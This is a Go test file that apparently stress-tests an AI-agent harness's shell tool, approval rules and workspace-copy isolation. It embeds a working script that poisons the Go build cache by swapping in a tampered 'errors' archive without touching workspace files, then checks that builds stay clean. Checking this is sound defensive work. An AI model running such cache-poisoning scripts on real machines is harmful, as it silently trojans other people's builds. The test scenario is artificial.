//go:build linux

package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// swapArchive is a script that swaps the compiled package errors in the build cache it sees for one that says something
// else. It leaves nothing in the workspace.
const swapArchive = `set -e
src=$(go env GOROOT)/src/errors/errors.go
sed 's/unsupported operation/TROJANHORSE operation/' "$src" > /tmp/errors.go
printf '{"Replace":{"%s":"/tmp/errors.go"}}' "$src" > /tmp/overlay.json
good=$(go list -export -f '{{.Export}}' errors)
evil=$(go list -overlay /tmp/overlay.json -export -f '{{.Export}}' errors)
id() { basename "$1" -d; }
size() { printf %20d "$(stat -c %s "$1")"; }
entry=$(grep -rl --include='*-a' "$(id "$good")" "$(go env GOCACHE)")
sed -i "s/$(id "$good") $(size "$good")/$(id "$evil") $(size "$evil")/" $entry
test "$(go list -export -f '{{.Export}}' errors)" = "$evil" && echo swapped`

const saysUnsupported = "package main\n\nimport \"errors\"\n\nfunc main() { println(errors.ErrUnsupported.Error()) }\n"

// A command that nobody decided runs on a copy, changes no file, and swaps an archive in the build cache. Neither a build that
// was pre-approved nor a custom tool that is built from clean sources has it.
func TestAttackABuildThroughTheCacheOfACopy(t *testing.T) {
	d := newDesk(t)
	config := filepath.Join(d.dir, "home", "config", "config.yaml") // which counts for a person's calls, not for a client's
	rules := "toolsets:\n  shell:\n    rules:\n      - pattern: \"go build\"\n        approval: preApproved\n"
	if err := os.WriteFile(config, []byte(rules), 0o600); err != nil {
		t.Fatal(err)
	}
	d.write("go.mod", "module x\n")
	d.write("main.go", saysUnsupported)
	d.write("evil.sh", swapArchive)
	c, p := d.approving()
	said := mcpCall(t, c, "shell", map[string]any{"command": "sh ./evil.sh", "timeout": 600})
	if strings.TrimSpace(said) != "swapped" || len(p.shown) != 0 {
		t.Fatalf("the attack did not work: %s, asked %q", said, p.shown)
	}
	if out, stderr, code := d.run("call", "shell", "command=sh ./evil.sh", "timeout=600"); code != 0 || out != "swapped\n" {
		t.Fatalf("the attack on the command line did not work: %d %s %s", code, out, stderr)
	}
	if out, stderr, code := d.run("call", "shell", "command=go build -o prog .", "timeout=600"); code != 0 {
		t.Fatalf("it was not built: %d %s %s", code, out, stderr)
	}
	prog, err := exec.Command(filepath.Join(d.dir, "ws", "prog")).CombinedOutput()
	if err != nil || string(prog) != "unsupported operation\n" {
		t.Errorf("the program that was built directly says %q, %v", prog, err)
	}
	if out, _, _ := d.run("changes", "list"); strings.Contains(out, "prog") {
		t.Errorf("it was built on a copy: %s", out)
	}
	mcpCall(t, c, "create_custom_tool", map[string]any{"name": "says", "description": "Says it.", "source": saysUnsupported})
	_ = os.Remove(filepath.Join(d.dir, "home", ".forge", "tools", "says", "says_test.go"))
	if said = mcpCall(t, c, "build_custom_tool", map[string]any{"name": "says"}); !strings.Contains(said, "is built and passes") {
		t.Fatal(said)
	}
	// The program itself: a client cannot approve running it.
	built, err := exec.Command(filepath.Join(d.dir, "home", ".forge", "tools", "says", "says")).CombinedOutput()
	if err != nil || string(built) != "unsupported operation\n" {
		t.Errorf("the custom tool says %q, %v", built, err)
	}
}
